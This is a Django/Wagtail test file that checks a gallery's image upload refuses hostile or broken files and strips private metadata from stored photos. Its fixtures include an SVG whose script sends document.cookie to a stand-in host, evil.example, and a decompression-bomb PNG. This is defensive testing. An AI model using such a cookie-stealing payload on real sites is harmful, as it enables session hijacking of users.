"""Hostile or broken uploads get a clear message, and nothing is stored; what is stored on
the way to becoming an image is as clean as the image."""

import io
import os
import stat
import time
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from wagtail.models import UploadedFile

from gallery.models import ExhibitionImage

from .test_photo_privacy import metadata_in, photo_with_metadata


def jpeg(size=(400, 300)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (90, 140, 200)).save(buffer, format="JPEG", quality=95)
    return buffer.getvalue()


def png(size):
    buffer = io.BytesIO()
    Image.new("1", size).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">
<script>fetch('https://evil.example/?' + document.cookie)</script></svg>"""

HOSTILE = {
    "a document renamed .jpg": (
        "portrait.jpg",
        b"%PDF-1.7\n1 0 obj<<>>endobj\n" * 50,
        "image/jpeg",
    ),
    "a truncated photo": ("portrait.jpg", jpeg()[: len(jpeg()) // 2], "image/jpeg"),
    "a decompression bomb": ("bombe.png", png((30_000, 30_000)), "image/png"),
    "an SVG with a script": ("dessin.svg", SVG, "image/svg+xml"),
    "an empty file": ("vide.jpg", b"", "image/jpeg"),
}


@pytest.fixture
def upload(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("curatrice", password="x"))

    def post(name, data, content_type="image/jpeg", title="Portrait"):
        return client.post(
            reverse("wagtailimages:add"),
            {
                "title": title,
                "file": SimpleUploadedFile(name, data, content_type),
                "alt_text": "Silhouette",
                "licence": "all-rights-reserved",
            },
        )

    return post


def stored_files():
    return [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]


@pytest.mark.django_db
@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_or_broken_uploads_are_refused_with_a_message(upload, case):
    response = upload(*HOSTILE[case])
    assert response.status_code == 200, case
    errors = response.context["form"].errors["file"]
    assert errors and all(len(error) > 20 for error in errors), errors
    assert not ExhibitionImage.objects.exists()
    assert stored_files() == []


@pytest.mark.django_db
def test_an_over_size_file_is_refused(upload):
    too_big = jpeg() + b"\0" * settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE
    response = upload("grande.jpg", too_big, "image/jpeg")
    assert response.status_code == 200
    assert "trop" in " ".join(response.context["form"].errors["file"]).lower()
    assert stored_files() == []


@pytest.mark.django_db
def test_a_good_photo_gets_in(upload):
    response = upload("portrait.jpg", jpeg(), "image/jpeg")
    assert response.status_code == 302
    assert ExhibitionImage.objects.count() == 1


@pytest.mark.django_db
def test_add_images_never_stores_a_raw_upload_nor_its_name(client, django_user_model):
    """ "Add images" stored the raw file (GPS, EXIF, XMP, its name) in wagtail_uploads/,
    readable by all, until the alt text was given; withdrawal never knew about it."""

    client.force_login(django_user_model.objects.create_superuser("curatrice", password="x"))
    upload = client.post(
        reverse("wagtailimages:add_multiple"),
        {"files[]": SimpleUploadedFile("amina-haddad.jpg", photo_with_metadata(), "image/jpeg")},
    )
    uploaded = UploadedFile.objects.get(pk=upload.json()["uploaded_file_id"])
    stored = Path(settings.MEDIA_ROOT) / uploaded.file.name
    data = stored.read_bytes()
    assert b"PhoneMaker" not in data and b"Amina Haddad" not in data and b"xmpmeta" not in data
    assert metadata_in(data)["gps"] == {} and "amina" not in uploaded.file.name.lower()
    assert stat.S_IMODE(stored.stat().st_mode) == 0o600
    form = upload.json()["form"]
    assert "amina-haddad" not in form  # the title offered is not the file's name

    # Abandoned: swept once old enough, when the next upload comes.
    old = time.time() - 25 * 3600
    os.utime(stored, (old, old))
    client.post(
        reverse("wagtailimages:add_multiple"),
        {"files[]": SimpleUploadedFile("autre.jpg", jpeg(), "image/jpeg")},
    )
    assert not stored.exists() and not UploadedFile.objects.filter(pk=uploaded.pk).exists()


@pytest.mark.django_db
def test_a_files_name_never_becomes_its_title(upload):
    response = upload("amina-haddad.jpg", jpeg(), title="amina-haddad")  # as the page fills it
    assert response.status_code == 302, response.content
    image = ExhibitionImage.objects.get()
    assert "amina" not in image.title.lower() and image.title.startswith("Image ajoutée le")
